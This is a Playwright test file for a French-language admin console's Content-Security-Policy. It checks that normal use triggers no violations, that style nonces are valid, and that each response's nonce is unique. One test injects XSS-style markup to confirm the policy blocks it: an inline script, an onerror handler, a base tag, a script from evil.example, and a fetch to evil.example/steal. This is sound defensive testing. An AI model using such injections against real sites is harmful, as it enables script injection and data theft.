import type { Page } from '@playwright/test';
import { expect, signIn, test } from './support.ts';

/** Collects violations of the page's Content-Security-Policy from the first script on. */
const watch = async (page: Page): Promise<() => Promise<string[]>> => {
    await page.addInitScript(() => {
        const seen: string[] = [];
        Object.assign(window, { refusedByPolicy: seen });
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
            seen.push(`${effectiveDirective}: ${blockedURI}`),
        );
    });
    return () => page.evaluate(() => Reflect.get(window, 'refusedByPolicy'));
};

const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });
const save = (page: Page) => button(page, 'Enregistrer');

/** Another person saves the open record. */
const changeMeanwhile = (page: Page, color: string): Promise<number> =>
    page.evaluate(async value => {
        const headers = {
            Authorization: `Bearer ${sessionStorage.getItem('token')}`,
            'Content-Type': 'application/merge-patch+json',
        };
        const body = JSON.stringify({ color: value });
        return (await fetch('/api/items/9', { method: 'PATCH', headers, body })).status;
    }, color);

test('the policy refuses nothing that the console does', async ({ page }) => {
    const refused = await watch(page);
    await page.goto('/login');
    await expect(button(page, 'Se connecter')).toBeVisible();
    expect(await refused()).toEqual([]);

    await signIn(page, 'admin', '/items');
    await expect(page.getByRole('row').nth(1)).toBeVisible();
    await button(page, 'Filtre').click();
    await expect(page.getByRole('listbox').getByRole('option').first()).toBeVisible();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: /Menu du compte/ }).click();
    await expect(page.getByRole('menu')).toBeVisible();
    await page.keyboard.press('Escape');
    expect(await refused()).toEqual([]);

    await page.goto('/items/9?edit');
    await page.getByRole('tab', { name: 'Classement' }).click();
    await page.getByRole('combobox', { name: 'Marque' }).click();
    await expect(page.getByRole('listbox').getByRole('option').first()).toBeVisible();
    await page.keyboard.press('Escape');
    await button(page, 'Supprimer').click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toBeHidden();
    await page.getByRole('tab', { name: 'Principal' }).click();
    await page.getByLabel('Couleur').fill('Bleu nuit');
    expect(await changeMeanwhile(page, 'Vert pomme')).toBe(200);
    await save(page).click();
    await expect(page.getByRole('dialog')).toBeVisible();
    expect(await refused()).toEqual([]);

    await page.goto('/administration/users');
    await expect(page.getByRole('row').nth(1)).toBeVisible();
    expect(await refused()).toEqual([]);
});

test('MUI’s styles take effect: the policy did not refuse them silently', async ({ page }) => {
    await signIn(page, 'admin', '/items/9?edit');
    await expect(save(page)).toHaveCSS('border-radius', '8px');
    const nonces = await page.locator('style[data-emotion]').evaluateAll(styles => styles.map(style => style.nonce));
    expect(nonces.length).toBeGreaterThan(0);
    for (const nonce of nonces) expect(nonce).toMatch(/^[\w-]{22}$/);
});

/** Without the console check, because the browser is expected to report errors. */
const intruded = test.extend({ consoleIsClean: undefined });

intruded('markup that got into the page neither runs nor sends anything', async ({ page, server }) => {
    const refused = await watch(page);
    await page.goto('/login');
    await expect(button(page, 'Se connecter')).toBeVisible();
    await page.evaluate(elsewhere => {
        const run = (code: string) => Object.assign(document.createElement('script'), { textContent: code });
        document.body.append(run('window.intruded = "inline"'));
        document.body.insertAdjacentHTML('beforeend', '<img src="/nothing.svg" onerror="window.intruded = 1">');
        document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>');
        document.body.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');
        document.body.append(Object.assign(document.createElement('script'), { src: `${elsewhere}/evil.js` }));
        // The rejection is expected; the events show that the policy caused it.
        void fetch(`${elsewhere}/steal`).catch(() => undefined);
    }, 'https://evil.example');
    await expect
        .poll(async () => [...new Set((await refused()).map(line => line.split(':')[0]))].sort())
        .toEqual(['base-uri', 'connect-src', 'script-src-attr', 'script-src-elem', 'style-src-elem']);
    expect(await page.evaluate(() => Reflect.get(window, 'intruded'))).toBeUndefined();
    await expect(button(page, 'Se connecter')).toBeVisible();
    expect(page.url()).toBe(`${server.url}/login`);
});

test('each answer has a nonce of its own, the same in its policy and in its page', async ({ request }) => {
    const nonces = await Promise.all(
        ['/', '/login', '/items/9?edit'].map(async path => {
            const answer = await request.get(path);
            const policy = answer.headers()['content-security-policy'] ?? '';
            expect(policy).not.toContain('unsafe');
            const [, nonce = ''] = /script-src 'self' 'nonce-([\w-]{22})'/.exec(policy) ?? [];
            const used = [...(await answer.text()).matchAll(/nonce="([^"]*)"/g)].map(([, value]) => value);
            expect(new Set(used)).toEqual(new Set([nonce]));
            return nonce;
        }),
    );
    expect(new Set(nonces).size).toBe(3);
});
